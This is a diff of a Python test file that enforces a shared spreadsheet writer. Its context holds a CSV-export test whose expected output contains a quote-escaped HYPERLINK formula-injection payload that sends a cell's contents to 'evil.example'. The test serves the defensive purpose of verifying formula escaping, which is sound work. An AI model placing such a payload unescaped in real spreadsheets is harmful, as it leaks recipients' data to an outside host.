@@ -5,8 +5,10 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from datetime import datetime
 from decimal import Decimal
+from pathlib import Path
 
 import pytest
 from hypothesis import given, settings
@@ -134,3 +136,27 @@ def test_csv_bytes_has_a_bom_and_reads_back():
     assert data.startswith("\ufeff".encode())
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
     assert rows == [["姓名", "金额"], ['\'=HYPERLINK("http://evil.example/"&C2,"点击")', "10"]]
+
+
+# --- Every export uses this writer ----------------------------------------------------------
+
+WRITERS = re.compile(r"\bWorkbook\(|WriteOnlyCell|csv\.writer|csv\.DictWriter|xlsxwriter")
+#: Files that may write spreadsheets another way, and why.
+ALLOWED = {
+    "core/spreadsheets.py": "the shared writer",
+    "demo/generators.py": "synthetic register files to import (input, not an export)",
+}
+
+
+def test_every_spreadsheet_export_goes_through_the_shared_writer():
+    root = Path(__file__).resolve().parents[2]  # winddown/
+    offenders = []
+    for path in sorted(root.rglob("*.py")):
+        relative = path.relative_to(root).as_posix()
+        if "/tests/" in f"/{relative}" or relative in ALLOWED or "/migrations/" in relative:
+            continue
+        if WRITERS.search(path.read_text(encoding="utf-8")):
+            offenders.append(relative)
+    assert offenders == [], (
+        f"write spreadsheets with winddown.core.spreadsheets, not directly: {offenders}"
+    )
